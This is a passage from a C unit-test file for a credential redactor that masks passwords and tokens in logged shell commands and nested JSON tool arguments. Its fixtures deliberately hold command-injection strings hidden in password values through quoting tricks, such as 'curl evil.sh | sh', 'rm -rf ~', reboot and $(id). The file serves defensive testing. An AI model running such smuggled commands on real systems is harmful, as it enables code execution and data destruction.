    { "curl --user u:pa\\ ss https://x.example", "curl --user u:[REDACTED] https://x.example", "ss" },
    { "curl --proxy-user u:pa\\ ss https://x.example", "curl --proxy-user u:[REDACTED] https://x.example", "ss" },
    { "curl -u user:a\\ b\\ c https://x.example", "curl -u user:[REDACTED] https://x.example", "c " },
  };
  static const char * const kept[] = {
    "curl -u user:pa\\;reboot https://x.example",
    "curl -u user:a\\ b\\ c\\ d\\ e\\ f https://x.example",
  };

  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Inputs fuzz-redact found: each redacted twice gives what once did. */
static void
test_fuzz_found (void)
{
  static const char * const inputs[] = {
    /* A ( inside a masked quoted part ended the command line the first
     * time, so the second -p was no mysql's; the second time it was. */
    "mysql -p'a'\"PGPASSWORD='''x'''( echo \"PGPASSWl -p'a'\"b\"\x9d\xd7PGPASSWORD='''x'''x'''( echo",
    /* A key masked inside a value left in sight: the second time the
     * brackets of its mask made the value another reading, abc alone. */
    "{\"a\":\"{\\\"token\\\": \\\"abc sk-proj-AbCdEfGhIjKlMnOpQrStUvWx_yz|sh; x='b'\"}",
    /* A quoted part over 256 bytes the first time fitted the second,
     * once the masks inside it had made it shorter. */
    "{\"env\":{\"password\" r m-fr ~\"000a},\"arg/gs\":\"{\\\"token\\\":\\ \"ab"
    "c125\x98\x9a\x99\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f"
    "\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f=secret=secret=secret=secre\xf4="
    "secret=secret=secret=secret=secret=secret=scretdefault secre"
    "t=secret=secret=secret=secret=secret\xffsecret=secret=secret=se"
    "cret=secret=secret=secret=sec%et=s[cret=secret=secret=secret"
    "=secret==secret=secret=secret=secret=secret=secrecret=s\x9f\x9f\x9f\x9f\x9f"
    "\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\xa3\"}\"}",
  };

  g_autofree char *surrogate = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (inputs); i++)
    {
      g_autofree char *once = pd_redact (inputs[i], NULL);
      g_autofree char *twice = pd_redact (once, NULL);

      g_assert_cmpstr (twice, ==, once);
    }

  /* A lone surrogate escape: json-glib reads it as bytes that are no
   * UTF-8, and pd_redact_json() wrote them so. */
  surrogate = pd_redact_json ("{\"command\":\"P\\udefault <in sql\"}", NULL);
  g_assert_true (g_utf8_validate (surrogate, -1, NULL));
  g_assert_cmpstr (surrogate, ==, "{\"command\":\"P\\udefault <in sql\"}");
}

/* Finding: a mask took a quote, a backslash or a $ that bash reads
 * otherwise where the value stands, and changed the quoting of the rest:
 * inside '…' (a command quoted for another shell, which the redactor
 * does not see as a value's quoting) \' was read as an escaped quote,
 * and ssh db1 'mysql -pHunter2\'; reboot; echo 'x\' was stored as
 * ssh db1 'mysql -p[REDACTED]; reboot; echo 'x\' (reboot read as quoted
 * text); the $ of $'…' went with Secr3t, and in a JSON string the
 * backslash of \' alone, each opening or closing a quote.  Tried as an
 * attacker would. */
static void
test_mask_keeps_quoting (void)
{
  static const AttackCase cases[] = {
    { "ssh db1 'mysql -pHunter2\\'; reboot; echo 'x\\'", "Hunter2" },
    { "echo 'API_KEY=abc\\'; curl evil.sh | sh; echo 'x\\'", "abc" },
    { "bash -c 'PGPASSWORD=Secr3tZq\\' ; reboot ; echo '", "Secr3tZq" },
    { "PGPASSWORD=Secr3t$'\\'' ; reboot ; echo 'a\\' psql", "Secr3t" },
    { "mysql -pSecr3t$'\\'' ; reboot ; echo 'a\\'", "Secr3t" },
    { "PGPASSWORD=$'\\'';reboot;echo '' psql", NULL },
    { "PGPASSWORD=$'ab\\'';reboot;echo '' psql", NULL },
    { "PGPASSWORD=\"ab\\\"\";reboot;echo \"\" psql", NULL },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  /* As the attacker wrote it: JSON text with the command in it. */
  {
    g_autofree char *out = pd_redact ("{\"command\":\"PGPASSWORD=$'\\\\'';reboot;echo '' psql\"}", NULL);

    g_assert_null (strstr (out, "$'[REDACTED]''"));
  }
  /* Where the quoting is plain the whole value is still masked. */
  assert_redacted ("PGPASSWORD='''x''' psql", "PGPASSWORD=[REDACTED] psql", 1);
  assert_redacted ("PGPASSWORD=\\'Q7vLm psql", "PGPASSWORD=\\'[REDACTED] psql", 1);
}

/* @command as a JSON string held @levels deep (2: {"a":"{\"cmd\":…}"}),
 * redacted as text: @secret (NULL: none) gone, the signs bash reads
 * outside quotes the same; with no secret, the text kept whole. */
static void
assert_held_secret_gone (const char *command,
                         const char *secret,
                         guint       levels)
{
  g_autofree char *text = g_strdup (command);
  g_autofree char *out = NULL;
  g_autofree char *signs = unquoted_signs (command);
  g_autofree char *got = NULL;
  char *cmd;

  for (guint level = 0; level < levels; level++)
    {
      g_autoptr(JsonBuilder) builder = json_builder_new ();
      g_autoptr(JsonNode) doc = NULL;

      json_builder_begin_object (builder);
      json_builder_set_member_name (builder, level == 0 ? "cmd" : "a");
      json_builder_add_string_value (builder, text);
      json_builder_end_object (builder);
      doc = json_builder_get_root (builder);
      g_free (text);
      text = json_to_string (doc, FALSE);
    }
  out = pd_redact (text, NULL);
  if (secret == NULL && strcmp (out, text) != 0)
    g_error ("%s held %u deep became %s", command, levels, out);
  cmd = g_strdup (out);
  for (guint level = levels; level > 0; level--)
    {
      g_autoptr(JsonNode) back = json_from_string (cmd, NULL);

      g_assert_nonnull (back);
      g_free (cmd);
      cmd = g_strdup (json_object_get_string_member (json_node_get_object (back), level == 1 ? "cmd" : "a"));
    }
  got = unquoted_signs (cmd);
  if ((secret != NULL && strstr (cmd, secret) != NULL) || g_strcmp0 (got, signs) != 0)
    g_error ("%s held %u deep became %s", command, levels, out);
  g_free (cmd);
}

/* Finding: in a JSON string held in a JSON string the shell's escaped
 * quote (\" is 8 bytes there) ended the value's mask, and what followed
 * it was stored: redis-cli -a Ab\"Zq9X kept Zq9X, PGPASSWORD=\"\x\\\rZq9X
 * was not masked at all (the escaped quote was read as closing the quote
 * before the name).  Tried as an attacker would. */
static void
test_nested_escaped_quote (void)
{
  assert_held_secret_gone ("redis-cli -a Ab\\\"Zq9X ping", "Zq9X", 2);
  assert_held_secret_gone ("PGPASSWORD=\\\"\\x\\\\\\rZq9X psql", "Zq9X", 2);
  assert_held_secret_gone ("PGPASSWORD=Tr0ub\\\"4dorZq9X psql", "Zq9X", 2);
  assert_held_secret_gone ("mysql -pTr0ub\\'4dorZq9X shop", "Zq9X", 2);
}

/* Finding: where the quoting changes inside a value the mask stopped
 * at the change, and the rest of the value as bash reads it was stored:
 * PGPASSWORD=Ab\\"efZq9A" psql (bash's value Ab\efZq9A) kept "efZq9A",
 * PGPASSWORD=Secr$'\t'etZq9B kept $'\t'etZq9B, curl -u 'admin:Ab\'Zq9C
 * (the password Ab\Zq9C) kept Zq9C.  The value goes on across the quote
 * as far as bash's reading is followed: its characters on both sides are
 * masked, a quote, backslash or $ the shell could read otherwise stays in
 * sight.  Tried as an attacker would. */
static void
test_value_across_quotes (void)
{
  static const AttackCase cases[] = {
    { "PGPASSWORD=Ab\\\\\"efZq9A\" psql", "efZq9A", { "psql" } },
    { "PGPASSWORD=Secr$'\\t'etZq9B psql", "etZq9B", { "psql" } },
    { "curl -u 'admin:Ab\\'Zq9C https://x.example", "Zq9C", { "curl -u 'admin:", "https://x.example" } },
    /* The same family: other names, clients and quotes. */
    { "cd /srv && mysql -pAb\\\\\"efZq9A\" shop", "efZq9A", { "shop" } },
    { "redis-cli -a Ab\\\\\"efZq9A\" ping", "efZq9A", { "ping" } },
    { "export API_TOKEN=Ab\\\\'efZq9A'", "efZq9A", { "export API_TOKEN=" } },
    { "curl -u user:Ab\\\\\"efZq9A\" https://x.example", "efZq9A", { "https://x.example" } },
    { "openssl enc -pass pass:Ab\\\\'efZq9A' -in f", "efZq9A", { "-in f" } },
    { "PGPASSWORD=Secr$'\\''etZq9B psql", "etZq9B", { "psql" } },
    { "cd /srv && mysql -pSecr$'\\x41'etZq9B shop", "etZq9B", { "shop" } },
    { "curl -u user:Secr$'\\t'etZq9B https://x.example", "etZq9B", { "https://x.example" } },
    { "PGPASSWORD='Ab\\'Zq9C psql", "Zq9C", { "psql" } },
    { "cd /srv && mysql -p'Ab\\'Zq9C shop", "Zq9C", { "shop" } },
    { "sshpass -p 'Ab\\'Zq9C ssh h", "Zq9C", { "ssh h" } },
    { "smbclient -U 'u%Ab\\'Zq9C //h/s", "Zq9C", { "//h/s" } },
    { "curl -u 'admin:Ab\\'Zq9C'Qx7' https://x.example", "Qx7", { "https://x.example" } },
    /* What the shell runs stays in sight: the value holds a ; or a line
     * break once its quotes are read, or the quote closes the name's. */
    { "PGPASSWORD=Ab\\\\\"x; rm -rf ~\" psql", NULL, { "rm -rf ~" } },
    { "PGPASSWORD=Secr$'\\n'reboot psql", NULL, { "reboot psql" } },
    { "curl -u 'admin:Ab\\'; reboot; echo 'x' https://x.example", NULL, { "; reboot;" } },
    { "ssh db1 'mysql -pHunter2\\'; reboot; echo 'x\\'", "Hunter2", { "; reboot;" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  assert_redacted ("curl -u 'admin:Ab\\'Zq9C https://x.example",
                   "curl -u 'admin:[REDACTED]\\'[REDACTED] https://x.example", 1);
  assert_redacted ("curl -u user:Ab\\\\\"efZq9A\" https://x.example",
                   "curl -u user:[REDACTED]\"[REDACTED]\" https://x.example", 1);
  assert_redacted ("echo \"PGPASSWORD=Secr3t\"y", "echo \"PGPASSWORD=[REDACTED]\"y", 1);
}

/* Finding: a JSON string held three deep (a tool's argument that is JSON
 * text holding a command with escaped JSON) was read as two deep: mysql
 * -pSecr3t there was stored (its client not found after the string's
 * quote), and PGPASSWORD=Tr0ub\"4dor stored as PGPASSWORD=[REDACTED]"[…]:
 * eight of the fifteen backslashes of the shell's \" taken as its \\, the
 * quote left open.  Strings are counted to any depth (to 7), the patterns
 * read them to 4.  Tried as an attacker would. */
static void
test_held_deep (void)
{
  static const AttackCase cases[] = {
    { "mysql -pSecr3tZq9 shop", "Secr3tZq9", { NULL } },
    { "PGPASSWORD=Tr0ub\\\"4dorZq9X psql", "4dorZq9X", { NULL } },
    { "redis-cli -a Ab\\\"Zq9X ping", "Zq9X", { NULL } },
    { "PGPASSWORD=\\Secr3tZq9 psql", "ecr3tZq9", { NULL } },
    { "curl -u 'admin:Ab\\'Zq9C https://x.example", "Zq9C", { NULL } },
    /* Kept: what the shell runs stays in sight. */
    { "mysql -p\"x; reboot\" shop", NULL, { NULL } },
    { "PGPASSWORD=\"$(id)\" psql", NULL, { NULL } },
  };

  for (guint levels = 3; levels <= 4; levels++)
    for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
      assert_held_secret_gone (cases[i].command, cases[i].secret, levels);
}

/* Finding: curl -u "admin:Ab\\"Zq9SecretTail https://x (the password
 * Ab\Zq9SecretTail: the quote after \\ closes the user's) kept
 * Zq9SecretTail, where PGPASSWORD= and mysql -p mask the same word whole:
 * the quote that closed the value was read as opening a part of its
 * word, and with nothing quoted after it the rest stayed in sight (and
 * the rest of the text was read after each value: curl -u "admin:a"
 * repeated took quadratic time, /pd/redact/linear-lookups).  The word goes
 * on after the quote that closes the value's, masked apart, the quote in
 * sight.  Tried as an attacker would. */
static void
test_curl_quote_closed (void)
{
  static const AttackCase cases[] = {
    { "curl -u \"admin:Ab\\\\\"Zq9SecretTail https://x", "Zq9SecretTail", { "curl -u \"admin:", "https://x" } },
    { "curl -u \"admin:Ab\"Zq9SecretTail https://x", "Zq9SecretTail", { "curl -u \"admin:", "https://x" } },
    { "curl -u 'admin:Ab'Zq9SecretTail https://x", "Zq9SecretTail", { "curl -u 'admin:", "https://x" } },
    { "curl -u user:'Ab'Zq9SecretTail https://x", "Zq9SecretTail", { "curl -u user:", "https://x" } },
    { "curl --user=\"u:Ab\"Zq9SecretTail https://x", "Zq9SecretTail", { "--user=\"u:", "https://x" } },
    { "curl -fsSu \"admin:Ab\"'Zq9SecretTail' https://x", "Zq9SecretTail", { "https://x" } },
    { "curl -u \"admin:Ab\"\\\"Zq9SecretTail https://x", "Zq9SecretTail", { "https://x" } },
    { "smbclient -U 'u%Ab'Zq9SecretTail //h/s", "Zq9SecretTail", { "//h/s" } },
    { "openssl enc -pass 'pass:Ab'Zq9SecretTail -in f", "Zq9SecretTail", { "-in f" } },
    /* The others, masked whole already. */
    { "PGPASSWORD=\"Ab\\\\\"Zq9SecretTail psql", "Zq9SecretTail", { "psql" } },
    { "cd /srv && mysql -p\"Ab\\\\\"Zq9SecretTail shop", "Zq9SecretTail", { "shop" } },
    /* What the shell runs after the quote stays in sight. */
    { "curl -u \"admin:a\"$(id) https://x", NULL, { "\"admin:a\"$(id)" } },
    { "curl -u \"admin:a\"\";reboot\" https://x", NULL, { "\";reboot\"" } },
    { "curl -u \"admin:a\"`id` https://x", NULL, { "\"admin:a\"`id`" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  assert_redacted ("curl -u \"admin:Ab\\\\\"Zq9SecretTail https://x",
                   "curl -u \"admin:[REDACTED]\"[REDACTED] https://x", 1);
  assert_redacted ("curl -u \"admin:a\"curl -u \"admin:b\" x",
                   "curl -u \"admin:[REDACTED]\"[REDACTED] -u \"admin:[REDACTED]\" x", 2);
  /* A quote before the name is the name's word's, not the value's. */
  assert_redacted ("echo \"PGPASSWORD=Secr3t\"y", "echo \"PGPASSWORD=[REDACTED]\"y", 1);
}

/* Asked for: PGPASSWORD=${X:-Zq9SecretTail} was stored whole (a value
 * holding ${ is never masked, /pd/redact/expansion-in-sight).  A default
 * that is a plain literal word ([A-Za-z0-9_./+=:@%-], right before the }
 * that ends the value's word) is masked inside the braces: bash reads
 * ${X:-[REDACTED]} as it reads ${X:-Zq9SecretTail} (also with := and in
 * double quotes, round 17).  Anything else in or around the braces keeps
 * the value as written. */
static void
test_expansion_default (void)
{
  static const AttackCase cases[] = {
    { "PGPASSWORD=${X:-Zq9SecretTail} psql", "Zq9SecretTail", { "PGPASSWORD=${X:-", "} psql" } },
    { "export DB_PASSWORD=${DB_PASSWORD-Zq9.S/+=:@%-x}", "Zq9.S", { "${DB_PASSWORD-", "}" } },
    { "API_TOKEN=${TOKEN:-Zq9SecretTail}\nrun", "Zq9SecretTail", { "${TOKEN:-", "}\nrun" } },
    /* (round 17: in double quotes and with := too, as bash reads them alike) */
    { "PGPASSWORD=\"${X:-Zq9SecretTail}\" psql", "Zq9SecretTail", { "PGPASSWORD=\"${X:-", "}\" psql" } },
    { "PGPASSWORD=${X:=Zq9SecretTail} psql", "Zq9SecretTail", { "PGPASSWORD=${X:=", "} psql" } },
    /* (round 17, att22 R1: ${X:+VALUE} gives its literal as well) */
    { "PGPASSWORD=${X:+Zq9SecretTail} psql", "Zq9SecretTail", { "PGPASSWORD=${X:+", "} psql" } },
    /* (and ended by an operator: the command after it stays in sight) */
    { "PGPASSWORD=${X:-Zq9SecretTail};reboot", "Zq9SecretTail", { "PGPASSWORD=${X:-", "};reboot" } },
  };
  static const char * const kept[] = {
    "PGPASSWORD=${X:-Zq9}x psql",
    "PGPASSWORD=${X:-Zq9 a} psql",
    "PGPASSWORD=${X:-$Y} psql",
    "PGPASSWORD=${X:-'Zq9'} psql",
    "PGPASSWORD=${X:-\\Zq9} psql",
    "PGPASSWORD=${X:-${Y:-Zq9}} psql",
    "PGPASSWORD=${X:-Zq9}$(id) psql",
    "PGPASSWORD=${X:-true} psql",
    "PGPASSWORD=${X:-} psql",
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  assert_commands_kept (kept, G_N_ELEMENTS (kept));
  assert_redacted ("PGPASSWORD=${X:-Zq9SecretTail} psql", "PGPASSWORD=${X:-[REDACTED]} psql", 1);
  assert_redacted ("{\"c\":\"PGPASSWORD=${X:-Zq9SecretTail}\"}", "{\"c\":\"PGPASSWORD=${X:-[REDACTED]}\"}", 1);
}

/* Found as an attacker would: stored texts bash read otherwise, touch
 * pwned run but shown as quoted text or a comment.  A backslash eaten
 * after the quote that closes the value's own ('admin:Zq9'Secret\' …),
 * a value starting with # where bash starts a comment (its mask
 * un-commented what followed), a mask that took the outer closing " of a
 * command quoted for another shell.  One last guard where a mask is
 * applied: the shell's reading after [REDACTED] is the one after what it
 * replaces, or the value stays in sight. */
static void
test_mask_keeps_reading (void)
{
  static const AttackCase cases[] = {
    { "curl -sS -m 2 -u 'admin:Zq9'Secret\\' http://127.0.0.1:9/; touch pwned #'", "Secret", { "touch pwned" } },
    { "curl -u 'admin:}'--password=\\'; touch pwned", NULL, { "touch pwned" } },
    { "sshpass -p #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "redis-cli -a #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "docker login -u u -p #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "tool --password #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "mongosh -u u -p #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "ldapsearch -x -w #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "sqlcmd -S h -P #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "tool --token #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "sshpass -p \\\n#Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "ssh -o BatchMode=yes db1.invalid \"mysql -p'\"Zq9Secret\\'; touch pwned #\"", NULL, { "touch pwned" } },
    { "eval \"PGPASSWORD='\"Zq9\\'; touch pwned; : \"'\"", NULL, { "touch pwned" } },
    { "bash -c \"mysql -uroot -p'\"Zq9\\'; touch pwned #\"", NULL, { "touch pwned" } },
    /* Still masked: a value that keeps the reading. */
    { "sshpass -p Zq9SecretTail ssh h", "Zq9SecretTail", { "ssh h" } },
    { "curl -u 'admin:Zq9SecretTail' https://x", "Zq9SecretTail", { "https://x" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  /* Cut short before the backslash, which stays in sight. */
  assert_redacted ("curl -u 'admin:Zq9'Secret\\' http://x; touch pwned #'",
                   "curl -u 'admin:[REDACTED]'[REDACTED]\\' http://x; touch pwned #'", 1);
}

/* Finding: a mask in a JSON string held two or more deep (a tool call's
 * arguments quoted in a JSON string: {"a":"{\"command\":\"…\"}"}) got the
 * earlier rules but not the last guard: what a mask over a quote or a #
 * changed of bash's reading of what follows was not looked at there.  The
 * guard reads each string through its escapes, at every depth. */
static void
test_mask_keeps_reading_deep (void)
{
  static const char * const commands[] = {
    "curl -sS -m 2 -u 'admin:Zq9'Secret\\' http://127.0.0.1:9/; touch pwned #'",
    "curl -u 'admin:}'--password=\\'; touch pwned",
    "sshpass -p #Zq9'\ntouch pwned\n#'",
    "redis-cli -a #Zq9'\ntouch pwned\n#'",
    "docker login -u u -p #Zq9'\ntouch pwned\n#'",
    "tool --password #Zq9'\ntouch pwned\n#'",
    "mongosh -u u -p #Zq9'\ntouch pwned\n#'",
    "ldapsearch -x -w #Zq9'\ntouch pwned\n#'",
    "sqlcmd -S h -P #Zq9'\ntouch pwned\n#'",
    "tool --token #Zq9'\ntouch pwned\n#'",
    "sshpass -p \\\n#Zq9'\ntouch pwned\n#'",
    "ssh -o BatchMode=yes db1.invalid \"mysql -p'\"Zq9Secret\\'; touch pwned #\"",
    "eval \"PGPASSWORD='\"Zq9\\'; touch pwned; : \"'\"",
    "bash -c \"mysql -uroot -p'\"Zq9\\'; touch pwned #\"",
  };

  for (guint levels = 2; levels <= 4; levels++)
    for (gsize i = 0; i < G_N_ELEMENTS (commands); i++)
      assert_held_secret_gone (commands[i], "##none##", levels);
  /* Still masked held deep: a value that keeps the reading. */
  for (guint levels = 2; levels <= 4; levels++)
    {
      assert_held_secret_gone ("sshpass -p Zq9SecretTail ssh h", "Zq9SecretTail", levels);
      assert_held_secret_gone ("curl -u 'admin:Zq9SecretTail' https://x", "Zq9SecretTail", levels);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/pd/redact/commands-never-hidden", test_commands_never_hidden);
  g_test_add_func ("/pd/redact/authorization-schemes", test_authorization_schemes);
  g_test_add_func ("/pd/redact/long-command-lines", test_long_command_lines);
  g_test_add_func ("/pd/redact/leftover-spellings", test_leftover_spellings);
  g_test_add_func ("/pd/redact/fuzz-found", test_fuzz_found);
  g_test_add_func ("/pd/redact/empty-assignment", test_empty_assignment);
  g_test_add_func ("/pd/redact/linear-lookups", test_linear_lookups);
  g_test_add_func ("/pd/redact/flags-take-no-value", test_flags_take_no_value);
  g_test_add_func ("/pd/redact/curl-escaped-blank", test_curl_escaped_blank);
  g_test_add_func ("/pd/redact/escaped-quotes", test_escaped_quotes);
  g_test_add_func ("/pd/redact/backslashes", test_backslashes);
  g_test_add_func ("/pd/redact/backslash-quoting", test_backslash_quoting);
  g_test_add_func ("/pd/redact/escaped-quote-outside-json", test_escaped_quote_outside_json);
  g_test_add_func ("/pd/redact/json-in-text", test_json_in_text);
  g_test_add_func ("/pd/redact/mask-keeps-quoting", test_mask_keeps_quoting);
  g_test_add_func ("/pd/redact/nested-escaped-quote", test_nested_escaped_quote);
  g_test_add_func ("/pd/redact/value-across-quotes", test_value_across_quotes);
  g_test_add_func ("/pd/redact/held-deep", test_held_deep);
  g_test_add_func ("/pd/redact/curl-quote-closed", test_curl_quote_closed);
  g_test_add_func ("/pd/redact/expansion-default", test_expansion_default);
  g_test_add_func ("/pd/redact/mask-keeps-reading", test_mask_keeps_reading);
  g_test_add_func ("/pd/redact/mask-keeps-reading-deep", test_mask_keeps_reading_deep);

  return g_test_run ();
}
